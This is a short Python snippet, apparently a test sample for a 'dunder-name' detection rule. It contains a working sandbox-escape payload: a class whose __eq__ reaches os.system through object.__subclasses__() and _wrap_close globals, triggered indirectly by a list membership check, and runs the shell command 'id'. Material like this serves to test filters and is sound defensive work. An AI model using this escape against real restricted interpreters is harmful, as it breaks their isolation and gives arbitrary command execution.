# Every class is reachable from a tuple, in an equality that a list asks for.
class A:
    def __eq__(self, *a):
        return [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['system']('id')
1 in [A()]
# rule: dunder-name
